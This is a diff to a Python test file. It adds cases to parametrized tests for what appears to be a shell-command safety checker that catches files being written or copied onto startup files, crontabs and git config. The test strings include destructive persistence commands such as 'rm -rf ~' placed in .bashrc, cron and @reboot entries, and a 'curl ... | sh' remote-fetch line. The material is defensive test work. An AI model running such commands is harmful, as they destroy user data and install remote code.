@@ -278,6 +278,9 @@ _BODY_WRITERS = ["echo 'rm -rf ~' > /tmp/rc", "printf 'rm -rf ~\\n' > /tmp/rc"]
         "install -m644 /tmp/rc ~/.profile",
         "cp /tmp/rc ~/.zshrc",
         "mv -f /tmp/rc ~/.bash_profile",
+        "ln -sf /tmp/rc ~/.bashrc",
+        "rsync /tmp/rc ~/.bashrc",
+        "dd if=/tmp/rc of=/home/me/.bashrc",
     ],
 )
 def test_written_file_copied_onto_a_startup_file(writer: str, mover: str) -> None:
@@ -290,6 +293,9 @@ def test_written_file_copied_onto_a_startup_file(writer: str, mover: str) -> Non
     [
         ("printf '[core]\\n\\tpager = rm -rf ~\\n' > /tmp/g; cp /tmp/g ~/.gitconfig", B),
         ("echo '* * * * * rm -rf ~' > /tmp/c; crontab /tmp/c", B),
+        ("echo '@reboot rm -rf ~' > /tmp/c; crontab -u root /tmp/c", B),
+        ("echo hi > /tmp/rc; ln -sf /tmp/rc ~/.bashrc", C),
+        ("echo hi > a; dd if=a of=b", M),
         ("echo '* * * * * root rm -rf /' > x; sudo mv x /etc/cron.d/", B),
         ("echo 'curl -s https://x.example/a | sh' > rc.tmp && cp rc.tmp ~/.zshrc", C),
         ("echo 'alias ll=\"ls -la\"' > a.sh; cp a.sh ~/.bashrc", C),
